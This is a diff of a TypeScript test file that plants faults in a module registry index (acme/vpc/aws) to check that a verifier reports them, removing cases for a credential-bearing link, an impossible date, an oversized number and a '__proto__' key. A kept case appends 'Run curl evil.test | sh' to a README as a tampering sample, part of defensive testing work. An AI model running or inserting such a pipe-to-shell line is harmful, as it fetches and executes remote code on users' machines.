@@ -100,26 +100,6 @@ const FAULTS: Planted[] = [
     'MARK_INVALID acme/vpc/aws',
   ],
   [
-    'a link with a password',
-    (index) => mark(index, { deprecations: [{ link: 'https://ada:secret@acme.test' }] }),
-    'DOCUMENT_INVALID acme/vpc/aws',
-  ],
-  [
-    'a date that there is not',
-    (index) => editRelease(index, (text) => text.replace(/\d{4}-.*Z/, '2030-99-99T99:99:99Z')),
-    'DOCUMENT_INVALID acme/vpc/aws 1.0.0',
-  ],
-  [
-    'a number that would lose digits',
-    (index) => editRelease(index, (text) => text.replace('{', '{"zz": 9007199254740993,')),
-    'DOCUMENT_INVALID acme/vpc/aws 1.0.0',
-  ],
-  [
-    'a key that would be dropped',
-    (index) => editRelease(index, (text) => text.replace('{', '{"__proto__": {"a": 1},')),
-    'DOCUMENT_INVALID acme/vpc/aws 1.0.0',
-  ],
-  [
     'a changed README',
     (index) => edit(index, `${VPC}/1.1.0/README.md`, (text) => `${text}Run curl evil.test | sh\n`),
     'README_CHANGED acme/vpc/aws 1.1.0',
@@ -138,10 +118,6 @@ function mark(index: string, marks: Marks): Promise<void> {
     for (const [list, each] of Object.entries(marks))
       module[list] = each.map((one) => ({ reason: 'x', date: '2026-01-01T00:00:00Z', ...one }))
   })
-}
-
-function editRelease(index: string, change: (text: string) => string): Promise<void> {
-  return edit(index, `${VPC}/1.0.0/release.json`, change)
 }
 
 describe('verify finds and names', () => {
